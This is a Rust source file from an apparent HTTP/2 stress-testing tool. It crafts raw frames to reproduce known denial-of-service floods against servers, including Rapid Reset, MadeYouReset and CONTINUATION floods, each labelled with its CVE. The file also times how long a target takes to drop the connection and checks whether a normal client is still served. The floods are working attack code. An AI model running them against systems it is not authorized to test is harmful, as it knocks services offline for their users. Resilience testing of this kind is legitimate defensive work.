//! An HTTP/2 peer that sends single frames (RFC 9113, 4.1), for floods that no library would send.

use std::time::{Duration, Instant};

use load::Target;

use super::peer::Peer;
use crate::stage::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEAD_BYTES, HEADERS, PING, PREFACE,
    PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
};

/// Frames that are sent in one piece.
const PIECE: u32 = 32;
/// A GET of `/`, by the static table (RFC 7541, appendix A) and one literal.
const GET: [u8; 6] = [0x82, 0x86, 0x84, 0x41, 1, b'a'];

/// One way to keep a server busy for nothing.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Flood {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Frames that make the server reset streams (CVE-2025-8671).
    MadeYouReset,
    /// Pings (CVE-2019-9512).
    Pings,
    /// Settings (CVE-2019-9515).
    Settings,
    /// A head without an end (CVE-2024-27316).
    Continuations,
    /// DATA of no bytes (CVE-2019-9518).
    EmptyData,
    /// Windows that grow by one byte.
    WindowUpdates,
    /// Priorities that change (CVE-2019-9513).
    Priorities,
}

impl Flood {
    /// Every one.
    pub(crate) const ALL: [Self; 8] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Pings,
        Self::Settings,
        Self::Continuations,
        Self::EmptyData,
        Self::WindowUpdates,
        Self::Priorities,
    ];

    /// What opens it.
    fn opening(self) -> Vec<u8> {
        match self {
            Self::Continuations => frame(HEADERS, 0, 1, &GET),
            Self::EmptyData => frame(HEADERS, END_HEADERS, 1, &[0x83, 0x86, 0x84, 0x41, 1, b'a']),
            Self::RapidReset
            | Self::MadeYouReset
            | Self::Pings
            | Self::Settings
            | Self::WindowUpdates
            | Self::Priorities => Vec::new(),
        }
    }

    /// Its `number`th step.
    fn step(self, number: u32) -> Vec<u8> {
        // Streams of clients have odd numbers below 2^31.
        let stream = (2 * number + 1) & 0x7fff_ffff;
        let get = || frame(HEADERS, END_HEADERS | END_STREAM, stream, &GET);
        match self {
            Self::RapidReset => {
                [get(), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
            }
            Self::MadeYouReset => {
                let overflow = 0x7fff_ffff_u32.to_be_bytes();
                [get(), frame(WINDOW_UPDATE, 0, stream, &overflow)].concat()
            }
            Self::Pings => frame(PING, 0, 0, &[7; 8]),
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
            Self::Continuations => frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::WindowUpdates => frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            Self::Priorities => frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 9]),
        }
    }

    /// Sends it until the server ends the connection; how long that took, or `None` if it never did.
    pub(crate) fn send(
        self,
        target: &Target,
        patience: Duration,
    ) -> Result<Option<Duration>, String> {
        let mut peer = Peer::connect(target, None)?;
        peer.set_write_patience(Duration::from_millis(200));
        let mut hello = PREFACE.to_vec();
        hello.extend(frame(SETTINGS, 0, 0, &[]));
        hello.extend(self.opening());
        peer.send(&hello);
        let begun = Instant::now();
        let mut number = 0;
        while begun.elapsed() < patience {
            let piece: Vec<u8> = (number..number + PIECE).flat_map(|at| self.step(at)).collect();
            number += PIECE;
            // A connection that takes nothing more is still open: only its end counts.
            peer.send(&piece);
            if peer.is_gone() {
                return Ok(Some(begun.elapsed()));
            }
        }
        Ok(None)
    }
}

/// Whether a well-behaved client of HTTP/2 is served: its settings are acknowledged and its ping comes back.
pub(crate) fn is_served(target: &Target, patience: Duration) -> Result<bool, String> {
    let mut peer = Peer::connect(target, None)?;
    let mark = *b"alive?!!";
    let mut hello = PREFACE.to_vec();
    hello.extend(frame(SETTINGS, 0, 0, &[]));
    hello.extend(frame(PING, 0, 0, &mark));
    peer.send(&hello);
    let mut head = [0; HEAD_BYTES];
    while peer.read_exact(&mut head, patience) {
        let [a, b, c, kind, flags, ..] = head;
        let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
        if !peer.read_exact(&mut payload, patience) || kind == GOAWAY {
            break;
        }
        if kind == PING && flags == 1 && payload == mark {
            return Ok(true);
        }
    }
    Ok(false)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn steps_use_streams_of_their_own() {
        let first = Flood::RapidReset.step(0);
        let second = Flood::RapidReset.step(1);
        assert_eq!((first.get(8), second.get(8)), (Some(&1), Some(&3)));
    }
}
